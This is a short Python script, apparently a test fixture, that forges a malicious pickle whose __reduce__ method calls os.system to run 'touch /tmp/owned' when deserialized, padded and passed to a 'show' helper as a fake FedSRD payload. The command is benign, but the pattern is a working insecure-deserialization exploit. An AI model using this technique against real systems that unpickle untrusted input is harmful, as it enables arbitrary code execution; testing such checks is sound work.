"""A pickle that would run a command, where a payload is expected."""

import os
import pickle

from forge import show

MESSAGE = r"this is no FedSRD payload"


class Command:
    def __reduce__(self):
        return os.system, ("touch /tmp/owned",)


def payload() -> bytes:
    return pickle.dumps(Command()) + bytes(100)


if __name__ == "__main__":
    show(__file__, payload(), MESSAGE)
